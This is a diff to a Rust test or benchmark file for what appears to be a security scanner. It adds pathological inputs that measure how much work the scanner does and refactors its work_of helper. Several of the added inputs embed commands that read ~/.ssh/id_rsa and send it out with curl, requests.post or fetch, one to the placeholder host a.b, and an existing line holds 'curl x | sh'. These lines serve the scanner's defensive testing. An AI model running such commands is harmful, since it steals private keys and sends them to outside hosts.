@@ -106,6 +106,30 @@ const PATTERNS: &[Pattern] = &[
     ("numbers", "x.js", |n| {
         fill("[65, 66, 67, 68, 69, 70, 71, 72, 73],", n)
     }),
+    ("values", "x.sh", |n| {
+        lines(n, |i| {
+            format!(
+                "v{i}=$(cat ~/.ssh/id_rsa $v{})\ncurl -d \"$v{i}\" https://a.b\n",
+                i - 1
+            )
+        })
+    }),
+    ("secrets in substitutions", "x.sh", |n| {
+        [b"cat ~/.ssh/id_rsa | curl -d @- ".to_vec(), fill("$(", n)].concat()
+    }),
+    ("calls in calls", "x.py", |n| {
+        [
+            b"requests.post(u, open('~/.ssh/id_rsa')".to_vec(),
+            fill("f(", n),
+        ]
+        .concat()
+    }),
+    ("functions in functions", "x.js", |n| {
+        [b"fetch('~/.ssh/id_rsa')\n".to_vec(), fill("a=>", n)].concat()
+    }),
+    ("expressions without an end", "x.js", |n| {
+        [b"fetch('~/.ssh/id_rsa')\n".to_vec(), fill("/[", n)].concat()
+    }),
     ("words", "x.md", words),
     ("headings", "x.md", |n| fill("# security\n", n)),
     ("table", "x.md", |n| fill("| a | `curl x | sh` ", n)),
@@ -232,9 +256,12 @@ fn all(size: usize) -> Vec<(String, String, Vec<u8>)> {
 }
 
 fn work_of(path: &str, bytes: &[u8]) -> u64 {
-    let mut scan = Scan::default();
-    scan_file(path, bytes, false, &mut scan);
-    scan.work
+    let file = File {
+        path: path.parse().expect("a good path"),
+        mode: Mode::Plain,
+        bytes: bytes.to_vec(),
+    };
+    scan_files(&[file], &[], None).work
 }
 
 /// The inputs have up to 1 MiB.
